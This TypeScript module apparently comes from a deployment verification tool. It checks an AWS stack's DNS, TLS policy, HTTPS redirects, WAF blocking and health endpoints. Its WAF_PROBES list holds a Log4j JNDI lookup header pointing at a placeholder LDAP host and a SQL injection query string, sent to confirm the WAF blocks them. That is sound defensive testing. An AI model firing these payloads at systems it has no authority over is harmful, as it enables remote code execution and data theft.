/**
 * The checks from outside, per application host: the name resolves; HTTPS presents a certificate valid
 * for the host (chain and name verified, not expired) and negotiates a protocol and cipher of the ALB's
 * policy, and refuses an offer outside it; HTTP redirects to HTTPS; the WAF blocks a known-bad request;
 * and each application's health path answers 200. Every network effect goes through {@link EdgeDeps}.
 */
import * as http from "node:http";
import * as https from "node:https";
import * as tls from "node:tls";
import type { ApplicationConfig, WafConfig } from "../../config";
import { OUT_OF_POLICY_OFFER, type TlsPolicy } from "./tlsPolicy";
import { fail, guarded, pass, skip, type CheckResult } from "./report";

/** A TLS handshake to make: to which address, for which host name, with what offer. */
export interface TlsTarget {
    /** The address the name resolved to. */
    readonly address: string;
    /** The host: SNI and the name the certificate must be valid for. */
    readonly host: string;
    /** A restricted offer (to see that the server refuses it); the client's defaults when absent. */
    readonly offer?: { readonly maxVersion: "TLSv1.2" | "TLSv1.3"; readonly ciphers: string };
}

/** The handshake's outcome. */
export type TlsOutcome =
    | { readonly ok: true; readonly protocol: string; readonly cipher: string; readonly validTo: Date; readonly subjectAltName: string }
    /** `code` is OpenSSL's or Node's (`CERT_HAS_EXPIRED`, `ERR_TLS_CERT_ALTNAME_INVALID`, `ECONNRESET`...). */
    | { readonly ok: false; readonly code: string; readonly message: string };

/** A GET to make. */
export interface HttpGet {
    readonly scheme: "http" | "https";
    readonly address: string;
    readonly host: string;
    /** Path and query. */
    readonly path: string;
    readonly headers?: Readonly<Record<string, string>>;
}

/** Its answer. */
export interface HttpAnswer {
    readonly status: number;
    readonly headers: Readonly<Record<string, string | string[] | undefined>>;
}

/** The network, as the edge checks use it. */
export interface EdgeDeps {
    /** The addresses of a name (A and AAAA). */
    resolve(host: string): Promise<string[]>;
    /** One TLS handshake. */
    tlsHandshake(target: TlsTarget): Promise<TlsOutcome>;
    /** One HTTP(S) GET (HTTPS verifies the certificate like {@link tlsHandshake}); redirects are not followed. */
    httpGet(request: HttpGet): Promise<HttpAnswer>;
}

/** Where the real network dependencies connect, and whom they trust. */
export interface NetworkOptions {
    readonly httpPort?: number;
    readonly httpsPort?: number;
    /** Trusted CAs (PEM); the system's store when absent. */
    readonly ca?: string;
    /** Per-operation timeout, milliseconds. */
    readonly timeoutMs?: number;
}

/** A real TLS handshake with Node's verification (chain, expiry and host name). */
export function nodeTlsHandshake(options: NetworkOptions = {}): EdgeDeps["tlsHandshake"] {
    return (target) =>
        new Promise((resolve) => {
            const socket = tls.connect({
                host: target.address,
                port: options.httpsPort ?? 443,
                servername: target.host,
                ...(options.ca !== undefined ? { ca: options.ca } : {}),
                ...(target.offer !== undefined ? { maxVersion: target.offer.maxVersion, ciphers: target.offer.ciphers } : {}),
                rejectUnauthorized: true,
            });
            socket.setTimeout(options.timeoutMs ?? 10_000, () => socket.destroy(Object.assign(new Error("TLS handshake timed out"), { code: "ETIMEDOUT" })));
            socket.once("secureConnect", () => {
                const cert = socket.getPeerCertificate();
                resolve({
                    ok: true,
                    protocol: socket.getProtocol() ?? "unknown",
                    cipher: socket.getCipher().name,
                    validTo: new Date(cert.valid_to),
                    subjectAltName: cert.subjectaltname ?? "",
                });
                socket.end();
            });
            socket.once("error", (error: NodeJS.ErrnoException) => resolve({ ok: false, code: error.code ?? "ERROR", message: error.message }));
        });
}

/** A real GET (no redirects followed), the body drained and dropped. */
export function nodeHttpGet(options: NetworkOptions = {}): EdgeDeps["httpGet"] {
    return (request) =>
        new Promise((resolve, reject) => {
            const common = {
                host: request.address,
                path: request.path,
                method: "GET",
                headers: { host: request.host, "user-agent": "platform-verify/1", ...request.headers },
                timeout: options.timeoutMs ?? 10_000,
            };
            const onResponse = (response: http.IncomingMessage) => {
                response.resume();
                response.once("end", () => resolve({ status: response.statusCode ?? 0, headers: response.headers }));
            };
            const req =
                request.scheme === "https"
                    ? https.request(
                          {
                              ...common,
                              port: options.httpsPort ?? 443,
                              servername: request.host,
                              agent: false,
                              ...(options.ca !== undefined ? { ca: options.ca } : {}),
                          },
                          onResponse,
                      )
                    : http.request({ ...common, port: options.httpPort ?? 80, agent: false }, onResponse);
            req.once("timeout", () =>
                req.destroy(Object.assign(new Error(`GET ${request.scheme}://${request.host}${request.path} timed out`), { code: "ETIMEDOUT" })),
            );
            req.once("error", reject);
            req.end();
        });
}

/** True when an ALB path pattern (`*` any characters, `?` one) matches the path. */
export function pathMatches(pattern: string, path: string): boolean {
    const regex = pattern
        .replace(/[.+^${}()|[\]\\]/g, "\\$&")
        .replace(/\*/g, ".*")
        .replace(/\?/g, ".");
    return new RegExp(`^${regex}$`).test(path);
}

/**
 * Known-bad requests and the managed rule that blocks each (AWS WAF developer guide, rule group
 * descriptions). The first whose rule is not switched to count mode is sent.
 */
export const WAF_PROBES = [
    {
        group: "AWSManagedRulesKnownBadInputsRuleSet",
        rule: "Log4JRCE_HEADER",
        what: "a Log4j JNDI lookup in a header",
        path: "/",
        headers: { "x-api-version": "${jndi:ldap://verify.invalid/a}" },
    },
    {
        group: "AWSManagedRulesSQLiRuleSet",
        rule: "SQLi_QUERYARGUMENTS",
        what: "SQL injection in a query argument",
        path: "/?id=1%27%20OR%20%271%27%3D%271",
        headers: {},
    },
] as const;

/** The probe to send under the web ACL's count-mode overrides, or undefined when every probe only counts. */
export function wafProbe(waf: Pick<WafConfig, "countModeRules">): (typeof WAF_PROBES)[number] | undefined {
    return WAF_PROBES.find((p) => !waf.countModeRules.some((r) => r.group === p.group && r.rule === p.rule));
}

/** What the edge checks need to know about the stack. */
export interface EdgeInputs {
    /** Application name to `https://<host>` (the `applicationUrls` output). */
    readonly applicationUrls: Readonly<Record<string, string>>;
    /** The applications' config (paths and readiness path). */
    readonly apps: readonly ApplicationConfig[];
    /** The WAF settings (count-mode rules). */
    readonly waf: WafConfig;
    /** The ALB's TLS policy. */
    readonly tlsPolicy: TlsPolicy;
    /** Now, for the certificate's remaining days. */
    readonly now: Date;
}

const DAY_MS = 86_400_000;

async function tlsCheck(deps: EdgeDeps, name: string, address: string, host: string, policy: TlsPolicy, now: Date): Promise<CheckResult> {
    const outcome = await deps.tlsHandshake({ address, host });
    if (!outcome.ok) {
        return fail(name, `no valid certificate for ${host} at ${address}: ${outcome.code} (${outcome.message})`);
    }
    if (!policy.protocols.includes(outcome.protocol) || !policy.ciphers.includes(outcome.cipher)) {
        return fail(
            name,
            `negotiated ${outcome.protocol} ${outcome.cipher}, outside the ALB policy (${policy.protocols.join(", ")}; ${policy.ciphers.join(", ")})`,
        );
    }
    const weak = await deps.tlsHandshake({ address, host, offer: OUT_OF_POLICY_OFFER });
    if (weak.ok) {
        return fail(name, `accepted TLS 1.2 ${weak.cipher} without forward secrecy: the listener runs a weaker policy than the program sets`);
    }
    const days = Math.floor((outcome.validTo.getTime() - now.getTime()) / DAY_MS);
    return pass(
        name,
        `certificate valid for ${host} (chain verified, ${days} days left), ${outcome.protocol} ${outcome.cipher}, refuses TLS 1.2 without forward secrecy`,
    );
}

async function redirectCheck(deps: EdgeDeps, name: string, address: string, host: string): Promise<CheckResult> {
    const answer = await deps.httpGet({ scheme: "http", address, host, path: "/verify?redirect=1" });
    const location = String(answer.headers.location ?? "");
    const target = /^https:\/\/([^/:]+)(:443)?\//.exec(location);
    if (answer.status !== 301 && answer.status !== 302 && answer.status !== 307 && answer.status !== 308) {
        return fail(name, `http://${host}/ answered ${answer.status}, not a redirect to HTTPS`);
    }
    if (target === null || target[1] !== host) {
        return fail(name, `http://${host}/ redirects to ${location === "" ? "(no Location)" : location}, not to https://${host}/`);
    }
    return pass(name, `http://${host}/ answers ${answer.status} to ${location}`);
}

async function wafCheck(deps: EdgeDeps, name: string, address: string, host: string, waf: WafConfig): Promise<CheckResult> {
    const probe = wafProbe(waf);
    if (probe === undefined) {
        return skip(name, `every probe's rule is in count mode (waf.countModeRules): ${WAF_PROBES.map((p) => `${p.group}/${p.rule}`).join(", ")}`);
    }
    const answer = await deps.httpGet({ scheme: "https", address, host, path: probe.path, headers: probe.headers });
    if (answer.status !== 403) {
        return fail(name, `${probe.what} (${probe.group}/${probe.rule}) answered ${answer.status}, expected 403 from the WAF`);
    }
    return pass(name, `${probe.what} is blocked with 403 (${probe.group}/${probe.rule})`);
}

async function healthCheck(deps: EdgeDeps, name: string, address: string, host: string, app: ApplicationConfig): Promise<CheckResult> {
    const routed = app.paths.some((p) => pathMatches(p, app.readinessPath));
    if (!routed) {
        return skip(
            name,
            `the readiness path ${app.readinessPath} is outside the app's ALB paths (${app.paths.join(", ")}): the ALB sends it to another app; its target group's health check probes it`,
        );
    }
    const answer = await deps.httpGet({ scheme: "https", address, host, path: app.readinessPath });
    return answer.status === 200
        ? pass(name, `https://${host}${app.readinessPath} answers 200`)
        : fail(name, `https://${host}${app.readinessPath} answered ${answer.status}, expected 200`);
}

/** Every edge check of the stack, one result per host and check, then one health result per application. */
export async function edgeChecks(deps: EdgeDeps, inputs: EdgeInputs): Promise<CheckResult[]> {
    const results: CheckResult[] = [];
    const hostOf = (url: string) => new URL(url).hostname;
    const hosts = [...new Set(Object.values(inputs.applicationUrls).map(hostOf))].sort();
    if (hosts.length === 0) {
        return [skip("edge", "no application has a host (applicationUrls is empty): nothing is reachable from outside")];
    }
    const addresses = new Map<string, string>();
    for (const host of hosts) {
        const dns = await guarded(`dns ${host}`, async () => {
            const found = await deps.resolve(host);
            if (found.length === 0) {
                return fail(`dns ${host}`, "resolves to no address");
            }
            addresses.set(host, found[0]);
            return pass(`dns ${host}`, `resolves to ${found.join(", ")}`);
        });
        results.push(...dns);
        const address = addresses.get(host);
        const notResolved = (name: string) => skip(name, `${host} does not resolve`);
        for (const [name, check] of [
            [`tls ${host}`, (a: string) => tlsCheck(deps, `tls ${host}`, a, host, inputs.tlsPolicy, inputs.now)],
            [`redirect ${host}`, (a: string) => redirectCheck(deps, `redirect ${host}`, a, host)],
            [`waf ${host}`, (a: string) => wafCheck(deps, `waf ${host}`, a, host, inputs.waf)],
        ] as const) {
            results.push(...(address === undefined ? [notResolved(name)] : await guarded(name, () => check(address))));
        }
    }
    for (const [appName, url] of Object.entries(inputs.applicationUrls).sort(([a], [b]) => a.localeCompare(b))) {
        const name = `health ${appName}`;
        const app = inputs.apps.find((a) => a.name === appName);
        const host = hostOf(url);
        const address = addresses.get(host);
        if (app === undefined) {
            results.push(fail(name, `the stack output names ${appName}, which the stack config does not have: deployed from another commit?`));
        } else if (address === undefined) {
            results.push(skip(name, `${host} does not resolve`));
        } else {
            results.push(...(await guarded(name, () => healthCheck(deps, name, address, host, app))));
        }
    }
    return results;
}
